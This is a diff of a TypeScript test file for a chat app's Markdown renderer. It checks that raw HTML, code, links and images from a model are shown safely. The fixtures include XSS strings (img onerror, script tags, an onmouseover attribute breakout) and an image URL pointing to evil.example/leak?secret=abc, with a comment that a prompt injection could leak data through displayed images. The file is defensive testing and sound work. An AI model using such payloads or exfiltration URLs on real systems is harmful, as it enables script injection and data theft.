@@ -1,39 +1,38 @@
-import { describe, expect, it, vi } from 'vitest';
-import {
-  createMarkdownRenderer,
-  markdownToHtml,
-  SANITIZE_CONFIG,
-  type Sanitizer,
-  safeLinkUrl,
-} from '../../shared/ui/markdown';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { safeLinkUrl } from '../../shared/ui/markdown';
+import { markup, renderToDom } from './support/markdown-dom';
 
-describe('markdownToHtml (the layer that needs no DOM)', () => {
+const html = (markdown: string) => markup(renderToDom(markdown).root);
+
+describe('renderMarkdown (DOM built from marked tokens)', () => {
   it('renders ordinary Markdown', () => {
-    const html = markdownToHtml('Hello **world**\n\n- one\n- two');
-    expect(html).toContain('<strong>world</strong>');
-    expect(html).toContain('<li>one</li>');
+    const { root } = renderToDom('Hello **world**\n\n- one\n- two');
+    expect(root.querySelector('strong')?.textContent).toBe('world');
+    expect([...root.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
   });
 
   it('shows raw HTML written by the model as text, never as markup', () => {
-    const html = markdownToHtml(
+    const { root } = renderToDom(
       'Look: <img src=x onerror="alert(1)"> and <script>alert(2)</script>\n\n<div onclick="x()">block</div>',
     );
-    expect(html).not.toMatch(/<img|<script|<div/i);
-    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
-    expect(html).toContain('&lt;script&gt;');
-    expect(html).toContain('&lt;div onclick=&quot;x()&quot;&gt;');
+    expect(root.querySelectorAll('img, script, div')).toHaveLength(0);
+    expect(root.textContent).toContain('<img src=x onerror="alert(1)">');
+    expect(root.textContent).toContain('<script>');
+    expect(root.textContent).toContain('<div onclick="x()">');
+    expect(html('<div onclick="x()">block</div>')).toBe('<p>&lt;div onclick="x()"&gt;block&lt;/div&gt;</p>');
   });
 
   it('opens http(s) links in a new tab without an opener', () => {
-    const html = markdownToHtml('[docs](https://docs.anthropic.com/x?a=1&b=2)');
-    expect(html).toBe(
-      '<p><a href="https://docs.anthropic.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">docs</a></p>\n',
+    expect(html('[docs](https://docs.anthropic.com/x?a=1&b=2)')).toBe(
+      '<p><a href="https://docs.anthropic.com/x?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">docs</a></p>',
     );
   });
 
   it('turns bare URLs into the same safe links', () => {
-    expect(markdownToHtml('see https://example.com/page')).toContain(
-      '<a href="https://example.com/page" target="_blank" rel="noopener noreferrer">',
+    expect(html('see https://example.com/page')).toContain(
+      '<a href="https://example.com/page" rel="noopener noreferrer" target="_blank">',
     );
   });
 
@@ -45,31 +44,85 @@ describe('markdownToHtml (the layer that needs no DOM)', () => {
       '/options.html',
       'x',
     ]) {
-      const html = markdownToHtml(`[click me](${href})`);
-      expect(html, href).not.toContain('<a');
-      expect(html, href).toContain('click me');
+      const { root } = renderToDom(`[click me](${href})`);
+      expect(root.querySelectorAll('a'), href).toHaveLength(0);
+      expect(root.textContent, href).toContain('click me');
     }
   });
 
-  it('escapes a link title that tries to break out of its attribute', () => {
-    const html = markdownToHtml('[x](https://a.example "t\\" onmouseover=\\"alert(1)")');
-    expect(html).not.toMatch(/"\s*onmouseover=/);
-    expect(html).toContain('&quot;');
+  it('keeps a link title that tries to break out of its attribute as the title text', () => {
+    const { root } = renderToDom('[x](https://a.example "t\\" onmouseover=\\"alert(1)")');
+    const link = root.querySelector('a');
+    expect(link?.getAttribute('title')).toBe('t" onmouseover="alert(1)');
+    expect(link?.hasAttribute('onmouseover')).toBe(false);
   });
 
   it('never loads images: an image becomes a link the person can choose to open', () => {
     // A prompt injection could otherwise leak data through the image URL just by being displayed.
-    const html = markdownToHtml('![chart](https://evil.example/leak?secret=abc)');
-    expect(html).not.toContain('<img');
-    expect(html).toContain('href="https://evil.example/leak?secret=abc"');
-    expect(html).toContain('[image: chart]');
+    const { root } = renderToDom('![chart](https://evil.example/leak?secret=abc)');
+    expect(root.querySelectorAll('img')).toHaveLength(0);
+    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/leak?secret=abc');
+    expect(root.textContent).toBe('[image: chart]');
   });
 
-  it('escapes code', () => {
-    expect(markdownToHtml('```html\n<b onclick="x">hi</b>\n```')).toContain(
-      '&lt;b onclick=&quot;x&quot;&gt;hi&lt;/b&gt;',
+  it('shows code as text', () => {
+    const block = renderToDom('```html\n<b onclick="x">hi</b>\n```').root;
+    expect(block.querySelectorAll('b')).toHaveLength(0);
+    expect(block.querySelector('pre > code')?.textContent).toBe('<b onclick="x">hi</b>\n');
+    expect(html('use `<br>` here')).toContain('<code>&lt;br&gt;</code>');
+  });
+
+  it('keeps the look of headings, nested and task lists, tables, quotes, emphasis and rules', () => {
+    const { root } = renderToDom(
+      [
+        '# Title',
+        '### Small',
+        '',
+        '- [x] done',
+        '- [ ] todo',
+        '  - nested *em* ~~gone~~',
+        '',
+        '3. three',
+        '4. four',
+        '',
+        '| L | C | R |',
+        '|:--|:-:|--:|',
+        '| a | b | c |',
+        '',
+        '> quoted **bold**',
+        '',
+        '---',
+        '',
+        'line  ',
+        'break &amp; &copy; &#169;',
+      ].join('\n'),
     );
-    expect(markdownToHtml('use `<br>` here')).toContain('<code>&lt;br&gt;</code>');
+    expect(root.querySelector('h1')?.textContent).toBe('Title');
+    expect(root.querySelector('h3')?.textContent).toBe('Small');
+    const boxes = [...root.querySelectorAll('ul > li > input')];
+    expect(
+      boxes.map((box) => [box.getAttribute('type'), box.hasAttribute('disabled'), box.hasAttribute('checked')]),
+    ).toEqual([
+      ['checkbox', true, true],
+      ['checkbox', true, false],
+    ]);
+    expect(markup(root.querySelector('ul > li > ul > li') as Node)).toBe('nested <em>em</em> <del>gone</del>');
+    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
+    expect(markup(root).match(/<div .*<\/div>/)?.[0]).toBe(
+      '<div aria-label="Table" class="table-scroll" role="group" tabindex="0"><table><thead><tr>' +
+        '<th align="left">L</th><th align="center">C</th><th align="right">R</th></tr></thead><tbody><tr>' +
+        '<td align="left">a</td><td align="center">b</td><td align="right">c</td></tr></tbody></table></div>',
+    );
+    expect(markup(root.querySelector('blockquote > p') as Node)).toBe('quoted <strong>bold</strong>');
+    expect(root.querySelectorAll('hr')).toHaveLength(1);
+    const last = [...root.querySelectorAll('p')].at(-1);
+    expect(last?.querySelectorAll('br')).toHaveLength(1);
+    expect(last?.textContent).toBe('linebreak & © ©');
+  });
+
+  it('makes links the only elements with a target', () => {
+    const { root } = renderToDom('[a](https://a.example) <a target="_self" href="https://b.example">b</a>');
+    expect([...root.querySelectorAll('[target]')].map((node) => node.tagName)).toEqual(['A']);
   });
 });
 
@@ -83,55 +136,16 @@ describe('safeLinkUrl', () => {
   });
 });
 
-type Hook = (node: {
-  nodeName: string;
-  setAttribute(n: string, v: string): void;
-  removeAttribute(n: string): void;
-}) => void;
-
-function fakePurify(isSupported = true) {
-  const hooks: Array<{ name: string; hook: Hook }> = [];
-  const sanitize = vi.fn((dirty: string) => `[sanitized]${dirty}`);
-  const purify = {
-    isSupported,
-    sanitize,
-    addHook: (name: string, hook: Hook) => hooks.push({ name, hook }),
-  } as unknown as Sanitizer;
-  return { purify, sanitize, hooks };
-}
-
-describe('createMarkdownRenderer', () => {
-  it('passes the Markdown output through DOMPurify with the restrictive config', () => {
-    const { purify, sanitize } = fakePurify();
-    const render = createMarkdownRenderer(purify);
-    expect(render('**hi**')).toBe('[sanitized]<p><strong>hi</strong></p>\n');
-    expect(sanitize).toHaveBeenCalledWith('<p><strong>hi</strong></p>\n', SANITIZE_CONFIG);
-    expect(SANITIZE_CONFIG.FORBID_TAGS).toEqual(expect.arrayContaining(['img', 'style', 'iframe', 'form']));
-  });
-
-  it('falls back to escaped text where DOMPurify cannot run, instead of trusting unsanitised HTML', () => {
-    const { purify, sanitize } = fakePurify(false);
-    const html = createMarkdownRenderer(purify)('<b>x</b> **y**');
-    expect(html).toBe('<p>&lt;b&gt;x&lt;/b&gt; **y**</p>');
-    expect(sanitize).not.toHaveBeenCalled();
-  });
-
-  it('installs its link hook once per DOMPurify instance, forcing new-tab links and no other targets', () => {
-    const { purify, hooks } = fakePurify();
-    createMarkdownRenderer(purify);
-    createMarkdownRenderer(purify);
-    expect(hooks).toHaveLength(1);
-    expect(hooks[0]?.name).toBe('afterSanitizeAttributes');
-
-    const attrs = new Map<string, string>([['target', '_self']]);
-    const node = (nodeName: string) => ({
-      nodeName,
-      setAttribute: (n: string, v: string) => attrs.set(n, v),
-      removeAttribute: (n: string) => attrs.delete(n),
-    });
-    hooks[0]?.hook(node('A'));
-    expect(Object.fromEntries(attrs)).toEqual({ target: '_blank', rel: 'noopener noreferrer' });
-    hooks[0]?.hook(node('FORM'));
-    expect(attrs.has('target')).toBe(false);
+describe('the message path needs no HTML sanitizer', () => {
+  it('no shared UI or phone page module imports DOMPurify or inserts Markdown as HTML', () => {
+    const root = join(import.meta.dirname, '../..');
+    const sources = ['shared/ui', 'phone-web/src'].flatMap((dir) =>
+      readdirSync(join(root, dir), { recursive: true, encoding: 'utf8' })
+        .filter((file) => file.endsWith('.ts'))
+        .map((file) => ({ file: `${dir}/${file}`, text: readFileSync(join(root, dir, file), 'utf8') })),
+    );
+    expect(sources.length).toBeGreaterThan(10);
+    const offenders = sources.filter(({ text }) => /from ['"]dompurify['"]|unsafeHTML|\.innerHTML\s*=/.test(text));
+    expect(offenders.map(({ file }) => file)).toEqual([]);
   });
 });
